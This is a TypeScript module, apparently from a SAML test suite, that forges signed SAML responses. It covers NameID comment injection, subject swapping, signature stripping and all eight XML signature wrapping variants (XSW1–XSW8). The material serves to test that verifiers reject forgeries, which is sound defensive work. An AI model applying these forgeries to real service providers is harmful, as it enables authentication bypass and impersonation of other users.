import type { Oddities } from './saml-identity-provider.js';

// Changes of SAML responses by somebody who has a signed one.

export const comment = (text: string): string => text.replace(/(<saml:NameID[^>]*>)/, '$1<!-- -->');
export const evilOf = (text: string): string => text.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1evil').replaceAll(/ ID="_(\w)/g, ' ID="_evil$1');
const assertionIn = (text: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(text)?.[0] ?? '';
export const withoutSignature = (text: string): string => text.replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, '');
export const signatureIn = (text: string): string => /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(text)?.[0] ?? '';
/** Puts the forged assertion, without a signature, into a response that has the signed one elsewhere. */
export const wrapped =
  (place: (signed: string, forged: string, text: string) => string) =>
  (text: string): string => {
    const signed = assertionIn(text);
    return place(signed, evilOf(withoutSignature(signed)), text);
  };
/** Puts an element into another one, as its last. */
const inside = (outer: string, inner: string): string => outer.replace(/<\/[\w:]+>$/, (end) => `${inner}${end}`);
const withSignature = (assertion: string, signature: string): string => assertion.replace('<saml:Subject>', `${signature}<saml:Subject>`);
/** Forges a response that has the signature, and the signed response without it. */
const wrapResponse = (text: string, place: (signature: string, signed: string) => string): string =>
  evilOf(withoutSignature(text)).replace('<samlp:Status>', `${place(signatureIn(text), withoutSignature(text))}<samlp:Status>`);

/** The eight kinds of signature wrapping, as the tool SAML Raider numbers them: the name, what the provider signs, and the change. */
export const signatureWrappings: readonly (readonly [string, NonNullable<Oddities['signs']>, (text: string) => string])[] = [
  ['XSW1: the signed response in the signature of a forged one', 'response', (text) => wrapResponse(text, (signature, signed) => inside(signature, signed))],
  ['XSW2: the signed response before the signature of a forged one', 'response', (text) => wrapResponse(text, (signature, signed) => `${signed}${signature}`)],
  ['XSW3: a forged assertion before the signed one', 'assertion', wrapped((signed, forged, text) => text.replace(signed, `${forged}${signed}`))],
  ['XSW4: the signed assertion in a forged one', 'assertion', wrapped((signed, forged, text) => text.replace(signed, inside(forged, signed)))],
  [
    'XSW5: a forged assertion with the signature, and the signed one after it',
    'assertion',
    wrapped((signed, forged, text) => text.replace(signed, `${withSignature(forged, signatureIn(signed))}${withoutSignature(signed)}`)),
  ],
  [
    'XSW6: the signed assertion in the signature of a forged one',
    'assertion',
    wrapped((signed, forged, text) => text.replace(signed, withSignature(forged, inside(signatureIn(signed), withoutSignature(signed))))),
  ],
  ['XSW7: a forged assertion in the extensions', 'assertion', wrapped((signed, forged, text) => text.replace(signed, `<samlp:Extensions>${forged}</samlp:Extensions>${signed}`))],
  [
    'XSW8: the signed assertion in an object of the signature of a forged one',
    'assertion',
    wrapped((signed, forged, text) =>
      text.replace(signed, withSignature(forged, inside(signatureIn(signed), `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${withoutSignature(signed)}</ds:Object>`))),
    ),
  ],
];
